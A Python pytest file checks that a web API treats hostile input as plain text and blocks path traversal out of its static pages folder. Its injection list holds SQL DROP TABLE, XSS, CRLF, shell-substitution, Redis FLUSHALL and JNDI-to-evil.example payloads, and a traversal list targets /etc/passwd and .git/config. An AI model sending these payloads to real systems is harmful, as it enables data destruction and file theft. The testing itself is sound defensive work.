"""Tests that text stays text in every field, header and path, stored and shown, for any interpreter."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import pytest
import pytest_asyncio

from api.pages import Pages
from commands.process import LinesBehind
from domain.names import parse_business_name
from persistence.registry.importing import Passwords, import_lines
from tests.api.callers import CALLERS, OPS_KEY, furnished, known_id
from tests.api.conftest import CHEAP, FEED_KEY, Service, business_line, person_line, plate, vehicle_line
from tests.attacks.document import Operation, operations
from tests.attacks.wire import Heard, Peer, connected, get

INJECTIONS: Final = {
    "sql": "' OR 1=1; DROP TABLE documents; --",
    "html": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "css": "</style><style>*{}",
    "crlf": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "nul": "a\x00b",
    "right to left": "\u202egnp.exe",
    "percent format": "%s%n%x%p" * 8,
    "brace format": "{0.__class__.__mro__} {request.app}",
    "template": "${7*7}{{7*7}}#{7*7}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "shell": "`id`; $(id) | id && id",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\windows\\win.ini",
    "redis": "x\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "json": '","admin":true,"x":"',
    "long": "车" * 6_000,
    "combining": "e" + "\u0301" * 3_000,
    "invisible": "\u200b\ufeff\u2060",
    "emoji": "👩‍👩‍👧‍👦" * 50,
    "event stream": "x\n\nevent: ended\ndata: {}\n\n",
    "url": "javascript:alert(1)//",
}
HEADERS: Final = (
    "Authorization",
    "Cookie",
    "Forwarded",
    "Host",
    "Idempotency-Key",
    "If-None-Match",
    "Last-Event-ID",
    "Origin",
    "Range",
    "Referer",
    "User-Agent",
    "X-Feed-Key",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-HTTP-Method-Override",
    "X-Ops-Key",
    "X-Request-Id",
)
IN_HEADERS: Final = ("sql", "html", "percent format", "jndi", "right to left", "json")
JSONS: Final = ("application/json", "application/problem+json")
PLAIN: Final = (*JSONS, "text/plain", "text/event-stream")
OURS: Final = {"/docs": "text/html", "/docs/docs.css": "text/css", "/docs/docs.js": "text/javascript"}
"""Our own pages, the same for every caller."""


@pytest_asyncio.fixture
async def house(tmp_path: Path) -> AsyncIterator[tuple[Service, dict[str, str], list[Operation]]]:
    service = Service(tmp_path)
    ids = await furnished(service)
    found = operations(await service.get("/api/v1/openapi.json", {}))
    yield service, ids, [each for each in found if each.path != "/dev/clock"]
    await service.stop()


House = tuple[Service, dict[str, str], list[Operation]]


def caller_of(path: str) -> str:
    return next((each for each in CALLERS if f"/{each}" in path), "driver")


async def test_every_field_of_every_body_takes_any_text_as_text(house: House) -> None:
    service, ids, found = house
    sessions = {name: await sign_in(service) for name, sign_in in CALLERS.items()}
    wrong, calls = [], 0
    for operation in found:
        path = operation.path.replace("{id}", known_id(ids, operation.path) or "0" * 16)
        for example in operation.bodies:
            for name, text in ((name, text) for name in example for text in INJECTIONS.values()):
                calls += 1
                headers = sessions[caller_of(operation.path)]
                body = example | {name: text}
                async with service.client.request(operation.method, path, json=body, headers=headers) as response:
                    told = await response.text()
                    if not 400 <= response.status < 500 or response.content_type not in JSONS:
                        wrong.append(f"{operation.name} {name}={text[:20]!r}: {response.status}")
                    elif text in told or json.dumps(text)[1:-1] in told:
                        wrong.append(f"{operation.name} {name}={text[:20]!r} is repeated")
            await service.clock.advance(3_600)
    assert calls > 200
    assert wrong == []


async def test_every_parameter_of_every_call_takes_any_text_as_text(house: House) -> None:
    service, ids, found = house
    sessions = {name: await sign_in(service) for name, sign_in in CALLERS.items()}
    wrong, calls = [], 0
    for operation in found:
        if operation.path.endswith("/live"):
            continue
        known = operation.path.replace("{id}", known_id(ids, operation.path) or "0" * 16)
        for text in INJECTIONS.values():
            safe = quote(text[:2_000].encode("utf-8", "surrogatepass"), safe="")
            paths = [f"{known}?{name}={safe}" for name in operation.parameters("query")]
            paths += [operation.path.replace("{id}", safe)] if operation.places else []
            for path in paths:
                calls += 1
                headers = sessions[caller_of(operation.path)] | {"X-Ops-Key": OPS_KEY}
                async with service.client.request(operation.method, _encoded(path), headers=headers) as response:
                    told = await response.text()
                    if response.status >= 500 or response.content_type not in JSONS:
                        wrong.append(f"{operation.method} {path[:80]}: {response.status} {response.content_type}")
                    elif response.status >= 400 and text in told:
                        wrong.append(f"{operation.method} {path[:80]} repeats it")
    assert calls > 300
    assert wrong == []


def _encoded(path: str) -> Any:
    from yarl import URL

    return URL(path, encoded=True)


async def test_every_header_of_every_call_takes_any_text_as_text(house: House) -> None:
    """The calls are written by hand, since no proper client sends such headers."""
    service, ids, found = house
    wrong, calls = [], 0
    for operation in found:
        if operation.method != "get" or operation.path.endswith("/live"):
            continue
        path = operation.path.replace("{id}", known_id(ids, operation.path) or "0" * 16)
        for header in HEADERS:
            async with connected(port_of(service), len(IN_HEADERS)) as peers:
                for peer, name in zip(peers, IN_HEADERS, strict=True):
                    calls += 1
                    answer = await peer.asks(get(path, f"{header}: {INJECTIONS[name]}"))
                    wrong += [f"{operation.name} {header} {name}: {each}" for each in faults(answer, operation.path)]
    assert calls > 1_000
    assert wrong == []


def port_of(service: Service) -> int:
    port = service.client.port
    assert port is not None
    return port


def faults(answer: Heard, path: str) -> list[str]:
    """Whatever shows that a text of ``INJECTIONS`` was obeyed or repeated."""
    found = []
    if answer.status >= 500:
        found.append(str(answer.status))
    kind = answer.headers.get("content-type", "text/plain").partition(";")[0]
    if kind not in PLAIN and kind != OURS.get(path):
        found.append(kind)
    if "set-cookie" in answer.headers or "location" in answer.headers:
        found.append("a header that nobody set")
    if any(text in value for value in answer.headers.values() for text in ("alert(1)", "DROP", "jndi")):
        found.append("a header repeats it")
    if path not in OURS and any(text in answer.body for text in (b"alert(1)", b"DROP TABLE", b"jndi")):
        found.append("the body repeats it")
    return found


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
async def test_an_unknown_path_repeats_nothing_of_itself(service: Service, text: str) -> None:
    safe = quote(text[:500], safe="")
    for path in (f"/{safe}", f"/api/v1/{safe}", f"/assets/{safe}", f"/family/{safe}", f"/docs/{safe}"):
        for accept, of_nothing in (("text/html", "text/html"), ("*/*", "application/problem+json")):
            response = await service.client.get(_encoded(path), headers={"Accept": accept})
            assert response.status in (200, 404, 503)  # A page of the pages' own router, built or not, or nothing.
            assert text not in await response.text()
            if response.status == 404 and not path.startswith(("/api", "/assets", "/docs")):
                assert response.content_type == of_nothing


# -- what is stored ----------------------------------------------------------------------------------------------------


async def test_stored_text_comes_back_as_it_was_and_only_as_json(service: Service) -> None:
    seen = 0
    for number, (kind, text) in enumerate(INJECTIONS.items(), 30):
        line = business_line(number, name=text)
        report = await import_lines(service.store, [json.dumps(line).encode()], Passwords(CHEAP.hash, lambda *_: False))
        if report.bad:
            continue  # Refused at the door, which is right for some.
        seen += 1
        while changes := await service.directory.look():
            service.directory.take_in(changes, await service.directory.moving(changes))
        response = await service.client.get("/api/v1/me", headers=await service.sign_in(number))
        assert response.content_type == "application/json"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert (await response.json())["display_name"] == parse_business_name(text), kind
    assert seen > 10


async def test_a_name_reaches_the_family_as_text(service: Service) -> None:
    name = "<script>甲</script>"
    await service.register(person_line(3, real_name=name))
    me = await service.get("/api/v1/me", await service.sign_in_driver(3))
    assert me["display_name"] == name


@pytest.mark.parametrize("text", ["%", "_", "鄂%", "鄂A0000_", "*", ".*", "' OR 1=1 --", "\\", "[", "鄂A00001%00"])
async def test_a_search_knows_no_wildcards(service: Service, text: str) -> None:
    await service.register(vehicle_line(1))
    page = await service.get(f"/api/v1/owner/vehicles?list=all&q={quote(text, safe='')}", await service.sign_in())
    assert plate(1) not in {each["plate"] for each in page["items"]}


def test_a_log_line_stays_one_line() -> None:
    written = io.StringIO()
    logger = logging.Logger("forged")
    logger.addHandler(handler := LinesBehind(written))
    for text in INJECTIONS.values():
        logger.warning("said: %s", text)
    handler.flush()
    lines = written.getvalue().splitlines()
    assert [json.loads(line)["message"] for line in written.getvalue().split("\n")[:-1]] == [
        f"said: {text}" for text in INJECTIONS.values()
    ]
    assert len(lines) >= len(INJECTIONS)


# -- files -------------------------------------------------------------------------------------------------------------

TRAVERSALS: Final = (
    "/../outside.js",
    "/assets/../../outside.js",
    "/assets/..%2f..%2foutside.js",
    "/assets/%2e%2e/%2e%2e/outside.js",
    "/assets/%2e%2e%2f%2e%2e%2foutside.js",
    "/assets/..%252f..%252foutside.js",
    "/assets/....//....//outside.js",
    "/assets/..\\..\\outside.js",
    "/assets/%5c..%5c..%5coutside.js",
    "/assets//outside.js",
    "//outside.js",
    "/assets/outside.js%00.css",
    "/assets/.%00./outside.js",
    "/assets/%c0%ae%c0%ae/outside.js",
    "/assets/\u2025/outside.js",
    "/assets/link.js",
    "/docs/../outside.js",
    "/docs/docs.css/../../../settings.py",
    "/docs/..%2f..%2f..%2fsettings.py",
    "/manifest.webmanifest/../../outside.js",
    "/settings.py",
    "/.git/config",
    "/data/shouwang.db",
    "http://elsewhere.example/../outside.js",
    "file:///etc/passwd",
)


async def test_no_path_leads_out_of_the_pages_folder(service: Service, tmp_path: Path) -> None:
    dist = tmp_path / "web" / "dist"
    (dist / "assets").mkdir(parents=True)
    (dist / "index.html").write_text("<!doctype html><title>pages</title>")
    (dist / "manifest.webmanifest").write_text("{}")
    (tmp_path / "outside.js").write_text("outside")
    (dist.parent / "outside.js").write_text("outside")
    await service.restart_with(pages=Pages(dist))
    for path in TRAVERSALS:
        async with connected(port_of(service), 1) as (peer,):
            answer: Heard = await Peer.asks(peer, get(path))
            assert answer.status in (400, 404), path
            assert b"outside" not in answer.body, path
            assert b"root:" not in answer.body, path


async def test_keys_are_told_in_no_answer(house: House) -> None:
    """Keys stay hidden even from a caller with one of them."""
    service, _, found = house
    headers = {"X-Ops-Key": OPS_KEY, "X-Feed-Key": FEED_KEY}
    for operation in found:
        if operation.method == "get" and not operation.path.endswith("/live"):
            told = await (await service.client.get(operation.path, headers=headers)).text()
            assert OPS_KEY not in told
            assert FEED_KEY not in told
